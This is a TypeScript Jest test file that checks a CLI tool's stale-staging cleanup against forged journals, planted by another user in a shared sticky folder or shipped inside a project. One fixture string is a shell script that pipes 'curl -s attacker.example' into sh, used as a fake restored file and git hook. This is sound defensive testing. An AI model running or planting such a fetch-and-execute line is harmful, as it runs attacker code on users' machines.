/**
 * Planted staging journals, through the binary (issue 23). A staging folder whose owner died is
 * undone by the next run beside it (`sweepStale` in generators/app/staging/staging.ts); these tests plant
 * such a folder the way an attacker would and check that nothing the journal names is touched:
 *
 * - another user (uid 65534, through `setpriv`) plants a folder in a shared sticky folder (mode
 *   1777, standing for /tmp) whose journal, with a dead pid and this host, names an empty
 *   root-only folder to delete and a file of theirs to move into a root-only folder, once within
 *   the shared folder (correct digests: only the owner check stands in the way) and once outside
 *   it; root runs `pipecat init --dry-run` and `pipecat init` below it;
 * - a project ships a staging folder whose journal names the user's edited `server/bot.py` as
 *   written by that run (a wrong digest, no digest, the format without digests) with the
 *   attacker's copy as its moved-aside original; the user runs `pipecat update --dry-run` and
 *   `pipecat update`.
 *
 * Needs root and `setpriv` for the first group (skipped with one `SKIPPED` line otherwise).
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { WEB_ARGS, makeTempDir, removeDir, runCli } from '../helpers/cli.js';
import { skipLine } from '../helpers/shared.js';
import { STAGING_PREFIX, contentHash } from '../../generators/app/staging/staging.js';

/** The uid and gid the other user runs as (`nobody` on most systems). */
const OTHER = 65534;

/** What the sticky-folder group lacks, if anything. */
function missingForOtherUser(): string | undefined {
  if (process.getuid?.() !== 0) return 'not running as root (needed to act as another uid)';
  if (spawnSync('setpriv', ['--version']).status !== 0) return 'setpriv not found (util-linux)';
  return undefined;
}
const missing = missingForOtherUser();
if (missing) skipLine('planted staging journal in a shared sticky folder', missing);

let tmp: string;
beforeAll(() => {
  tmp = makeTempDir('pipecat-attacks-');
  // The other user must reach the shared folder.
  chmodSync(tmp, 0o755);
});
afterAll(() => removeDir(tmp));

/** A pid no process has (checked), as a SIGKILLed run leaves in its journal. */
function deadPid(): number {
  for (let pid = 3_999_999; ; pid--) {
    try {
      process.kill(pid, 0);
    } catch (err) {
      if ((err as NodeJS.ErrnoException).code === 'ESRCH') return pid;
    }
  }
}

/** A journal with a dead owner on this host, in the shape this tool writes. */
function journal(fields: { target: string; moved?: unknown[]; replaced?: unknown[]; created?: string[] }): string {
  return JSON.stringify({
    pid: deadPid(),
    host: hostname(),
    started: Date.now() - 60_000,
    created: [],
    moved: [],
    replaced: [],
    committed: false,
    ...fields,
  });
}

/** Every path below `root` with its type, content and mode, for "nothing touched" checks. */
function state(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir).sort()) {
      const p = join(dir, name);
      const st = statSync(p);
      const rel = p.slice(root.length + 1);
      if (st.isDirectory()) {
        out[`${rel}/`] = `${st.uid} ${(st.mode & 0o7777).toString(8)}`;
        walk(p);
      } else out[rel] = `${st.uid} ${(st.mode & 0o7777).toString(8)} ${readFileSync(p).toString('base64')}`;
    }
  };
  walk(root);
  return out;
}

(missing ? describe.skip : describe)('a staging folder another user planted in a shared sticky folder', () => {
  test('root runs `pipecat init --dry-run` and `pipecat init` below it: nothing it names is touched', () => {
    const shared = join(tmp, 'shared');
    mkdirSync(shared);
    chmodSync(shared, 0o1777);
    // Root's folders the journals aim at: empty ones (their digest is known to anyone) and a
    // folder to receive the other user's file.
    const roots = [join(shared, 'rootonly'), join(tmp, 'rootonly-out')];
    for (const r of roots) {
      mkdirSync(join(r, 'doomed'), { recursive: true });
      mkdirSync(join(r, 'vault'));
      chmodSync(r, 0o700);
      chmodSync(join(r, 'vault'), 0o700);
    }
    const empty = join(tmp, 'an-empty-folder');
    mkdirSync(empty);
    const emptyDigest = contentHash(empty);
    const theirs = 'planted by uid 65534\n';
    const theirsDigest = contentHashOf(theirs);
    // What the other user runs: create the staging folder, its moved-aside copy and journal.
    const plant = (name: string, target: string, victim: string): string => {
      const dir = join(shared, `${STAGING_PREFIX}${deadPid()}-${name}`);
      const text = journal({
        target,
        moved: [{ path: join(victim, 'doomed'), sha256: emptyDigest }],
        replaced: [{ path: join(victim, 'vault', 'planted.txt'), backup: join(dir, 'replaced', '0'), sha256: theirsDigest }],
      });
      // It records its folder's identity (inode and birth time), which it can read: the only thing
      // between it and root's files is that the folder is not root's.
      const script =
        'const fs=require("fs"),[dir,text,theirs]=process.argv.slice(1);' +
        'fs.mkdirSync(dir+"/replaced",{recursive:true});fs.writeFileSync(dir+"/replaced/0",theirs);' +
        'const st=fs.lstatSync(dir,{bigint:true});' +
        'fs.writeFileSync(dir+"/journal.json",JSON.stringify({...JSON.parse(text),identity:st.ino+":"+st.birthtimeNs}));';
      const r = spawnSync(
        'setpriv',
        [`--reuid=${OTHER}`, `--regid=${OTHER}`, '--clear-groups', process.execPath, '-e', script, dir, text, theirs],
        { cwd: shared, encoding: 'utf8' },
      );
      expect({ status: r.status, stderr: r.stderr }).toEqual({ status: 0, stderr: '' });
      expect(statSync(dir).uid).toBe(OTHER);
      return dir;
    };
    // Within the shared folder (every path where such a run could have written, correct digests)
    // and outside it.
    plant('inside', shared, roots[0]);
    plant('outside', join(shared, 'x'), roots[1]);
    const work = join(shared, 'root-work');
    mkdirSync(work);
    const before = { shared: state(shared), out: state(roots[1]) };
    const dry = runCli(['init', '-n', 'bot', ...WEB_ARGS, '-o', work, '--dry-run']);
    expect({ code: dry.code, stderr: dry.code === 0 ? '' : dry.stderr }).toEqual({ code: 0, stderr: '' });
    expect({ shared: state(shared), out: state(roots[1]) }).toEqual(before);
    const real = runCli(['init', '-n', 'bot', ...WEB_ARGS, '-o', work]);
    expect({ code: real.code, stderr: real.code === 0 ? '' : real.stderr }).toEqual({ code: 0, stderr: '' });
    for (const r of roots) {
      expect(existsSync(join(r, 'doomed'))).toBe(true);
      expect(readdirSync(join(r, 'vault'))).toEqual([]);
    }
    const after = state(shared);
    for (const [p, v] of Object.entries(before.shared)) expect([p, after[p]]).toEqual([p, v]);
    // Only the new project was added.
    expect(existsSync(join(work, 'bot', '.yo-rc.json'))).toBe(true);
    expect(Object.keys(after).filter((p) => !(p in before.shared) && !p.startsWith('root-work/bot/'))).toEqual([]);
    expect(state(roots[1])).toEqual(before.out);
  });
});

describe('a staging folder shipped inside a project', () => {
  let pristine: string;
  beforeAll(() => {
    expect(runCli(['init', '-n', 'bot', ...WEB_ARGS, '-o', join(tmp, 'pristine')]).code).toBe(0);
    pristine = join(tmp, 'pristine', 'bot');
    const bot = join(pristine, 'server', 'bot.py');
    writeFileSync(bot, `${readFileSync(bot, 'utf8')}\n# my own edit: keep this\n`);
    mkdirSync(join(pristine, '.git', 'hooks'), { recursive: true });
  });

  /** The attacker's file, shipped as the "moved-aside original" a recovery would put back. */
  const THEIRS = '#!/bin/sh\ncurl -s attacker.example | sh\n';

  /** What each journal says that run did, given the project and its moved-aside copy. */
  type Entries = (root: string, backup: string) => { moved: unknown[]; replaced: unknown[] };
  const bot = (root: string): string => join(root, 'server', 'bot.py');
  const variants: [string, Entries][] = [
    [
      "the user's edited bot.py with a wrong digest",
      (root, backup) => ({
        moved: [{ path: bot(root), sha256: 'ab'.repeat(32) }],
        replaced: [{ path: bot(root), backup, sha256: contentHashOf(THEIRS) }],
      }),
    ],
    [
      "the user's edited bot.py with no digest",
      (root, backup) => ({ moved: [{ path: bot(root) }], replaced: [{ path: bot(root), backup }] }),
    ],
    [
      "the user's edited bot.py in the format without digests",
      (root, backup) => ({ moved: [bot(root)], replaced: [{ path: bot(root), backup }] }),
    ],
    [
      'a git hook to put back, with correct digests',
      (root, backup) => ({
        replaced: [{ path: join(root, '.git', 'hooks', 'pre-commit'), backup, sha256: contentHashOf(THEIRS) }],
        moved: [],
      }),
    ],
  ];
  // Shipped: the attacker made the folder (recording its identity) and the user got a copy (a
  // clone). In place: the folder where the journal says, as if the attacker knew its identity; the
  // digests must stop it then (not for the hook: only the identity can tell that journal is not the run's).
  const cases = variants.flatMap(([name, entries]) =>
    (['shipped', 'in place'] as const)
      .filter((how) => how === 'shipped' || !name.includes('hook'))
      .map((how) => [name, how, entries] as const),
  );

  test.each(cases)(
    'naming %s (%s): `pipecat update --dry-run` and `pipecat update` leave the project byte-identical',
    (name, how, entries) => {
      const slug = `${name}-${how}`.replace(/\W+/g, '-');
      const made = join(tmp, `made-${slug}`);
      const root = join(tmp, `project-${slug}`);
      cpSync(pristine, how === 'shipped' ? made : root, { recursive: true });
      const at = how === 'shipped' ? made : root;
      const name_ = `${STAGING_PREFIX}${deadPid()}-0badc0de`;
      const dir = join(at, name_);
      mkdirSync(join(dir, 'replaced'), { recursive: true });
      writeFileSync(join(dir, 'replaced', '0'), THEIRS, { mode: 0o755 });
      const st = lstatSync(dir, { bigint: true });
      const text = journal({ target: root, ...entries(root, join(root, name_, 'replaced', '0')) });
      writeFileSync(join(dir, 'journal.json'), JSON.stringify({ ...JSON.parse(text), identity: `${st.ino}:${st.birthtimeNs}` }));
      if (how === 'shipped') cpSync(made, root, { recursive: true });
      const mine = readFileSync(bot(root));
      const before = state(root);
      const dry = runCli(['update', '--dry-run'], { cwd: root });
      expect({ code: dry.code, warning: dry.stderr.split('\n')[0] }).toEqual({
        code: 0,
        warning: expect.stringMatching(new RegExp(`^warning: left ${join(root, name_)} alone: .*`)),
      });
      expect(state(root)).toEqual(before);
      const real = runCli(['update'], { cwd: root });
      expect(real.code).toBe(0);
      expect(readFileSync(bot(root)).equals(mine)).toBe(true);
      expect(existsSync(join(root, '.git', 'hooks', 'pre-commit'))).toBe(false);
      expect(state(root)).toEqual(before);
    },
  );
});

/** The digest {@link contentHash} records for a file holding `text`. */
function contentHashOf(text: string): string {
  const p = join(tmp, `digest-${Math.random().toString(36).slice(2)}`);
  writeFileSync(p, text);
  return contentHash(p);
}
